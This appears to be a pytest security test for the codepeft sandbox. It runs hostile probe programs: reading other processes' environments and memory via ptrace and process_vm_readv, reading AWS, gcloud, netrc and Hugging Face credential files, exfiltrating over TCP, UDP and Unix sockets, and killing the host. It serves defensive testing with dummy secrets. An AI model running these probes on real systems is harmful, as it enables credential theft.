"""No program reads a secret of the user or of codepeft, at any level, as root or as an ordinary user.

Most people run codepeft as an ordinary user, where a program at the rlimits level runs under the
same user id as codepeft itself. The driver (secrets_driver.py) is started as such a user with
secrets in every place a user keeps them, and runs the programs below through `execute`; as root
it is also started as root (where each program gets a user id of its own). A secret is a string
that starts with `cpsecret-`; the programs print whatever they find that starts so. The host
listens on TCP, UDP and a Unix socket for exfiltration.

When the tests run as root the ordinary user is a fresh user id (setpriv), with a home of its
own; the driver then needs an interpreter every user can run (the one the sandbox uses) and a
copy of `codepeft.execution` and psutil it can read, made here.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from dataclasses import asdict
from pathlib import Path

import psutil
import pytest

import codepeft.errors
import codepeft.execution
from codepeft.execution import Limits
from codepeft.execution.sandbox import bwrap_works, confinement, sandbox_python

AS_ROOT = os.geteuid() == 0
ORDINARY_UID = 61_234  # below the sandbox's own user ids (codepeft.execution.sandbox.SLOT_UID_BASE)
LIMITS = Limits(cpu_seconds=3, wall_seconds=8, memory_mb=512, file_size_mb=4, disk_mb=32, processes=16)

PREAMBLE = textwrap.dedent("""
    import sys
    for _m in ('ctypes', 'socket', 'resource'):
        sys.modules.pop(_m, None)
    import posix, re
    def report(data):
        for m in re.findall(rb'cpsecret-[0-9a-f]+', data if isinstance(data, bytes) else data.encode()):
            print('FOUND', m.decode(), flush=True)
""")

PROGRAMS = {
    "environ_of_every_process": """
        for pid in posix.listdir('/proc'):
            try:
                report(open(f'/proc/{pid}/environ', 'rb').read())
            except Exception:
                pass
        report(open('/proc/@HOST_PID@/environ', 'rb').read())
    """,
    "cmdline_of_parent": """
        report(open('/proc/@HOST_PID@/cmdline', 'rb').read())
    """,
    "memory_of_parent": """
        import ctypes
        ctypes.CDLL(None).ptrace(16, @HOST_PID@, 0, 0)  # PTRACE_ATTACH, where allowed
        maps = open('/proc/@HOST_PID@/maps').read().splitlines()
        with open('/proc/@HOST_PID@/mem', 'rb', 0) as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
                if 'rw' in line.split()[1] and hi - lo < 2**28:
                    try:
                        mem.seek(lo)
                        report(mem.read(hi - lo))
                    except Exception:
                        pass
    """,
    "memory_via_process_vm_readv": """
        import ctypes
        class Iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        libc = ctypes.CDLL(None)
        for line in open('/proc/@HOST_PID@/maps').read().splitlines():
            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
            if 'rw' not in line.split()[1] or hi - lo > 2**26:
                continue
            buf = ctypes.create_string_buffer(hi - lo)
            local, remote = Iovec(ctypes.addressof(buf), hi - lo), Iovec(lo, hi - lo)
            if libc.process_vm_readv(@HOST_PID@, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                report(buf.raw)
    """,
    "files_in_home": """
        for path in @HOME_FILES@:
            try:
                report(open(path, 'rb').read())
            except Exception as err:
                print(type(err).__name__, path)
    """,
    "environ_of_sibling": """
        report(open('/proc/@SIBLING_PID@/environ', 'rb').read())
    """,
    "exfiltrate_tcp": """
        import socket
        socket.create_connection(('127.0.0.1', @TCP_PORT@), timeout=2).sendall(b'cpsecret-exfil')
    """,
    "exfiltrate_udp": """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'cpsecret-exfil', ('127.0.0.1', @UDP_PORT@))
    """,
    "exfiltrate_unix_socket": """
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect('@UNIX_PATH@')
        s.sendall(b'cpsecret-exfil')
    """,
    "kill_codepeft": """
        import signal
        posix.kill(@HOST_PID@, signal.SIGKILL)
    """,
}


def _levels() -> list[str]:
    return (["bwrap", "bwrap-fresh"] if bwrap_works() else []) + ["rlimits"]


def _users() -> list[str]:
    return ["ordinary", "root"] if AS_ROOT else ["ordinary"]


@pytest.fixture(scope="module")
def confined():
    found = confinement()
    print(f"rlimits confinement on this kernel: {found}")
    return found


class Listener:
    """TCP, UDP and Unix-socket servers on the host; anything they receive is an exfiltration."""

    def __init__(self, root: Path):
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix_path = root / "host.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.unix_path))
        self.unix_path.chmod(0o777)
        self.unix.listen(4)
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._serve, args=(s,), daemon=True) for s in (self.tcp, self.unix)]
        self.threads.append(threading.Thread(target=self._datagrams, daemon=True))
        for t in self.threads:
            t.start()

    def _serve(self, server):
        server.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = server.accept()
                self.received.append(conn.recv(100) or b"(connected)")
                conn.close()
            except OSError:
                continue

    def _datagrams(self):
        self.udp.settimeout(0.2)
        while not self.stop.is_set():
            try:
                self.received.append(self.udp.recv(100))
            except OSError:
                continue

    def close(self):
        self.stop.set()
        for t in self.threads:
            t.join()
        for s in (self.tcp, self.udp, self.unix):
            s.close()


def _home(root: Path, uid: int | None) -> tuple[Path, list[Path], list[str]]:
    """A home directory with secrets where tools keep them; returns (home, files, secrets)."""
    home = root / "home"
    files = {
        ".cache/huggingface/token": "{s}",
        ".netrc": "machine api.wandb.ai login user password {s}\n",
        ".config/gcloud/application_default_credentials.json": '{{"refresh_token": "{s}"}}',
        ".aws/credentials": "[default]\naws_secret_access_key = {s}\n",
    }
    written, values = [], []
    for rel, template in files.items():
        value = f"cpsecret-{secrets.token_hex(8)}"
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(template.format(s=value))
        path.chmod(0o600)
        written.append(path)
        values.append(value)
    if uid is not None:
        for p in [home, *home.rglob("*")]:
            os.chown(p, uid, uid)
    home.chmod(0o700)
    return home, written, values


def _driver_tree(root: Path) -> Path:
    """codepeft.execution and psutil, where any user can read them (the project may live under a
    home directory that others cannot enter)."""
    tree = root / "pkg"
    (tree / "codepeft").mkdir(parents=True)
    (tree / "codepeft" / "__init__.py").write_text("")
    shutil.copy(Path(codepeft.errors.__file__), tree / "codepeft" / "errors.py")
    shutil.copytree(Path(codepeft.execution.__file__).parent, tree / "codepeft" / "execution")
    shutil.copytree(Path(psutil.__file__).parent, tree / "psutil")
    shutil.copy(Path(__file__).parent / "secrets_driver.py", tree / "secrets_driver.py")
    for p in [root, *root.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    return tree


def _expected_gap(program: str, level: str, user: str, confined: dict) -> str | None:
    """Why this run is allowed to leak on this machine (None: it must not)."""
    if level != "rlimits" or user != "ordinary":
        return None
    abi = confined.get("landlock_abi", 0) if confined.get("landlock") else 0
    if program == "kill_codepeft" and abi < 6:
        return f"Landlock ABI {abi} < 6 cannot scope signals: a program of the same user can signal codepeft"
    if program == "files_in_home" and not abi:
        return "no Landlock on this kernel: the rlimits level cannot hide the user's files from the same user"
    if program.startswith("exfiltrate") and not confined.get("seccomp"):
        return "no seccomp filter on this kernel: the network is open at the rlimits level"
    return None


@pytest.fixture
def shared_tmp():
    """A directory every user can enter (pytest's own temporary root is private to its user)."""
    path = Path(tempfile.mkdtemp(prefix="codepeft-secrets-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.parametrize("user", _users())
def test_no_program_reads_a_secret(shared_tmp, user, confined):
    tmp_path = shared_tmp
    uid = None
    if user == "ordinary" and AS_ROOT:
        if shutil.which("setpriv") is None:
            pytest.skip("setpriv (util-linux) is needed to start an ordinary user's process as root")
        uid = ORDINARY_UID
    python = sandbox_python()
    if uid is not None and sys.version_info[:2] != tuple(
        int(x)
        for x in subprocess.run(
            [python, "-c", "import sys; print(sys.version_info[0], sys.version_info[1])"],
            capture_output=True,
            text=True,
        ).stdout.split()
    ):
        pytest.skip(f"no interpreter of this Python version that user {uid} can run ({python})")
    tree = _driver_tree(tmp_path / "driver")
    work = tmp_path / "work"
    work.mkdir()
    if uid is not None:
        os.chown(work, uid, uid)
    home, home_files, file_secrets = _home(tmp_path, uid)
    (tmp_path / "sock").mkdir(mode=0o755)
    listener = Listener(tmp_path / "sock")
    names = ("HF_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY")
    env_secrets = {k: f"cpsecret-{secrets.token_hex(8)}" for k in names}
    cmdline_secret, sibling_secret = f"cpsecret-{secrets.token_hex(8)}", f"cpsecret-{secrets.token_hex(8)}"
    all_secrets = [*env_secrets.values(), *file_secrets, cmdline_secret, sibling_secret]
    fill = {
        "@HOME_FILES@": repr([str(p) for p in home_files]),
        "@TCP_PORT@": str(listener.tcp.getsockname()[1]),
        "@UDP_PORT@": str(listener.udp.getsockname()[1]),
        "@UNIX_PATH@": str(listener.unix_path),
    }
    runs = []
    for name, body in PROGRAMS.items():
        program = PREAMBLE + textwrap.dedent(body)
        for key, value in fill.items():
            program = program.replace(key, value)
        runs += [{"name": name, "level": level, "program": program} for level in _levels()]
    job = {"limits": asdict(LIMITS), "runs": runs, "sibling_secret": sibling_secret}
    argv = [python, "-s", str(tree / "secrets_driver.py"), f"--hub-token={cmdline_secret}"]
    if uid is not None:
        argv = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--", *argv]
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "TMPDIR": str(work), "PYTHONPATH": str(tree), **env_secrets}
    try:
        out = subprocess.run(
            argv,
            input=json.dumps(job),
            capture_output=True,
            text=True,
            env=env,
            cwd=work,
            timeout=600,
        )
    finally:
        listener.close()
    results = [json.loads(line) for line in out.stdout.splitlines() if line.startswith("{")]
    assert len(results) == len(runs), f"the driver stopped early (exit {out.returncode}):\n{out.stderr[-3000:]}"
    problems, gaps = [], []
    unavailable = sorted({r["level"] for r in results if r["outcome"] == "unavailable"})
    assert "rlimits" not in unavailable, "the rlimits level must always run"
    results = [r for r in results if r["outcome"] != "unavailable"]
    for r in results:
        seen = r["stdout"] + r["stderr"]
        leaked = [s for s in all_secrets if s in seen]
        # a sent datagram proves nothing (inside bubblewrap it goes nowhere): what the host received does
        bad = leaked or (r["name"] == "kill_codepeft" and r["outcome"] == "passed")
        gap = _expected_gap(r["name"], r["level"], user, confined)
        if bad and gap:
            gaps.append(f"{r['name']} at {r['level']}: {gap}")
        elif bad:
            leak = f"{len(leaked)} secret(s) leaked, verdict {r['outcome']}"
            problems.append(f"{r['name']} at {r['level']} as {user}: {leak}")
        assert r["isolation"] == ("bwrap" if r["level"].startswith("bwrap") else "rlimits")
    if listener.received and not any("exfiltrate" in g for g in gaps):
        problems.append(f"the host received {listener.received}")
    assert not problems, "\n".join(problems)
    if gaps:
        pytest.xfail("documented gaps of this kernel: " + "; ".join(gaps))
    if unavailable:  # codepeft refuses these levels for this user (and `auto` falls back): nothing ran
        pytest.skip(f"as {user}, every secret stayed hidden; levels this user cannot use: {unavailable}")
